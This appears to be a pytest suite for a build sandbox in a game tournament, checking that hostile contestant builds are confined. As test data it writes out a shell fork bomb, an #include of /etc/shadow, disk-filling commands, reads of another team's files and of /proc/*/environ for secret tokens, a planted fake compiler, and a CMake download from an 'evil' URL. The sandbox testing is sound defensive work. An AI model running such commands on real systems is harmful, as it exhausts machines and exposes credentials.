"""What hostile builds do is contained: each ends with a reason, and the machine is as it was."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Final

import pytest
from tests.intake.making import built, need, plant

from tiltyard_engine.recipes import Part, Product, Recipe, Step, Way
from tiltyard_intake.building.build import BUILD_LIMITS
from tiltyard_simulator.guard.cell_pool import CellPool
from tiltyard_simulator.guard.confinement.probes import probe_confinement
from tiltyard_simulator.guard.policy import Level
from tiltyard_simulator.match.limits import MEBIBYTE, Limits

PROGRAM: Final = Product(form="program", patterns=("**/*",), contents="executable")
C_FILES: Final = Way(
    title="its C files", steps=(Step(tool="gcc", words=("{files:*.c}", "-o", "{out}/{team}")),), rejects=("Makefile",)
)
MAKE: Final = Way(title="its Makefile", wants=("Makefile",), steps=(Step(tool="make"),))
CMAKE: Final = Way(
    title="its CMakeLists.txt", wants=("CMakeLists.txt",), steps=(Step(tool="cmake", words=("-S", "{source}", "-B", "{out}/b")),)
)
RECIPE: Final = Recipe(
    name="c",
    title="C",
    game="penguins",
    wants=("Makefile|CMakeLists.txt|*.c",),
    parts=(Part(title="the program", ways=(CMAKE, MAKE, C_FILES), product=PROGRAM),),
)
SMALL: Final = replace(
    BUILD_LIMITS,
    move_seconds=3.0,
    match_seconds=6.0,
    wall_factor=1.5,
    program_processes=64,
    scratch_bytes=64 * MEBIBYTE,
    file_bytes=32 * MEBIBYTE,
    output_bytes=64 * 1024,
)
BUSY: Final = replace(SMALL, move_seconds=0.3, wall_factor=24.0)
"""For builds that are known to use CPU time for ever."""
GOOD: Final = "int main(void) { return 0; }\n"


@pytest.fixture(scope="module", params=[Level.A, Level.B])
def pool(request: pytest.FixtureRequest) -> Iterator[CellPool]:
    best = probe_confinement().level
    if best is Level.C or (best is Level.B and request.param is Level.A):
        pytest.skip("this machine cannot confine builds so")
    with CellPool(reserve=0, level=request.param) as opened:
        yield opened


def made_by(makefile: str, tmp_path: Path, pool: CellPool, limits: Limits = SMALL, **files: str) -> tuple[str, str]:
    """The error and the log of a Makefile whose one rule has these lines."""
    need("make", "gcc")
    rule = "all:\n" + "".join(f"\t{line}\n" for line in makefile.splitlines())
    tree = plant(tmp_path / "tree", {"Makefile": rule, "main.c": GOOD, **files})
    made = built(tree, [RECIPE], limits, pool=pool)
    assert made.products == ()
    return made.error, made.log


def test_a_fork_bomb_ends_at_the_limit_of_processes(tmp_path: Path, pool: CellPool) -> None:
    bomb = plant(tmp_path / "tree", {"bomb.sh": "#!/bin/sh\nwhile :; do ./bomb.sh & done\nwait\n"})
    assert (bomb / "bomb.sh").exists()
    error, log = made_by("./bomb.sh", tmp_path, pool)
    # The kernel refuses to fork, or the watcher ends it, or its time is over: whichever comes first.
    stopped = ("processes and threads", "CPU time", "fork", "Resource temporarily unavailable", "more than", "wall")
    assert any(word in error + log for word in stopped), (error, log[-500:])


def test_shadow_is_no_header(tmp_path: Path, pool: CellPool) -> None:
    need("gcc")
    made = built(plant(tmp_path / "tree", {"main.c": f'#include "/etc/shadow"\n{GOOD}'}), [RECIPE], SMALL, pool=pool)
    assert made.error.startswith("main.c:1: /etc/shadow: ")
    assert made.error.endswith(("No such file or directory", "Permission denied"))
    assert "root:" not in made.log


def test_a_build_that_never_ends_is_stopped_by_its_clocks(tmp_path: Path, pool: CellPool) -> None:
    error, _ = made_by("sleep 1000", tmp_path, pool)
    assert error.startswith("the build was stopped: make did not end within ")
    busy, _ = made_by("while :; do :; done", tmp_path, pool, BUSY)
    assert busy.startswith("the build was stopped: make")


def test_ten_gigabytes_do_not_fit(tmp_path: Path, pool: CellPool) -> None:
    before = shutil.disk_usage(tmp_path).free
    error, log = made_by("head -c 10737418240 /dev/zero > big || exit 1", tmp_path, pool)
    assert error
    assert "File too large" in log or "No space left" in log
    error, log = made_by("for i in 1 2 3 4 5 6 7 8; do head -c 20000000 /dev/zero > big$$i || exit 1; done; exit 1", tmp_path, pool)
    if pool.confinement.level is Level.A:
        assert "No space left" in log
    assert before - shutil.disk_usage(tmp_path).free < 1 << 30


def test_a_hundred_megabytes_of_output_are_read_and_thrown_away(tmp_path: Path, pool: CellPool) -> None:
    error, log = made_by("yes xxxxxxx | head -c 100000000; exit 1", tmp_path, pool)
    assert error
    assert len(log) < 3 * SMALL.output_bytes


def test_another_team_is_not_there(tmp_path: Path, pool: CellPool) -> None:
    plant(tmp_path / "other_team", {"secret.c": "the other team's secret"})
    there = tmp_path / "other_team" / "secret.c"
    error, log = made_by(f"cat ../other_team/secret.c {there} ../*/*.c; ls {tmp_path} && exit 1; exit 1", tmp_path, pool)
    assert error
    assert "the other team" not in log


def test_a_link_to_another_team_is_not_followed(tmp_path: Path, pool: CellPool) -> None:
    plant(tmp_path / "other_team", {"secret.c": "the other team's secret"})
    tree = plant(tmp_path / "tree", {"readme": ""})
    (tree / "their.c").symlink_to(tmp_path / "other_team" / "secret.c")
    (tree / "them").symlink_to(tmp_path / "other_team")
    _, log = made_by("cat their.c them/secret.c; exit 1", tmp_path, pool)
    assert "the other team" not in log


def test_a_product_that_is_a_link_is_no_product(tmp_path: Path, pool: CellPool) -> None:
    error, _ = made_by("ln -s /bin/true penguins", tmp_path, pool)
    assert error == "no program was made"


def test_a_planted_compiler_compiles_nothing(tmp_path: Path, pool: CellPool) -> None:
    need("gcc")
    fake = "#!/bin/sh\necho planted\nexit 1\n"
    tree = plant(tmp_path / "tree", {"main.c": GOOD, "gcc": fake, "cc1": fake, "bin/gcc": fake})
    made = built(tree, [RECIPE], SMALL, pool=pool)
    assert made.error == ""
    assert "planted" not in made.log


def test_nothing_is_downloaded(tmp_path: Path, pool: CellPool) -> None:
    need("cmake", "gcc")
    lists = """cmake_minimum_required(VERSION 3.10)
project(thief NONE)
file(DOWNLOAD http://127.0.0.1:9/evil ${CMAKE_BINARY_DIR}/evil STATUS status)
message(FATAL_ERROR "${status}")
"""
    made = built(plant(tmp_path / "tree", {"CMakeLists.txt": lists}), [RECIPE], SMALL, pool=pool)
    assert made.error.startswith("CMakeLists.txt:4: ")
    assert "connect" in made.error.lower()


def test_the_environment_and_the_home_are_not_there(tmp_path: Path, pool: CellPool, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_TOKEN", "token-of-the-organiser")
    home = Path.home()
    _, log = made_by(f"env; ls -a {home}; cat /proc/*/environ; exit 1", tmp_path, pool)
    assert "token-of-the-organiser" not in log
    assert "SOURCE_DATE_EPOCH=315619200" in log
    assert f"HOME={home}\n" not in log


def test_what_a_build_leaves_behind_is_killed_and_removed(tmp_path: Path, pool: CellPool) -> None:
    need("make", "gcc")
    tree = plant(tmp_path / "tree", {"Makefile": "all: main.c\n\tgcc main.c -o penguins\n\t(sleep 987654 & ) \n", "main.c": GOOD})
    made = built(tree, [RECIPE], SMALL, pool=pool)
    assert made.error == ""
    left = [path for path in Path("/proc").glob("[0-9]*/cmdline") if _reads(path) == b"sleep\x00987654\x00"]
    assert left == []
    assert [file for folder in Path(pool.scratch_root).iterdir() for file in folder.iterdir()] == []


def _reads(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""
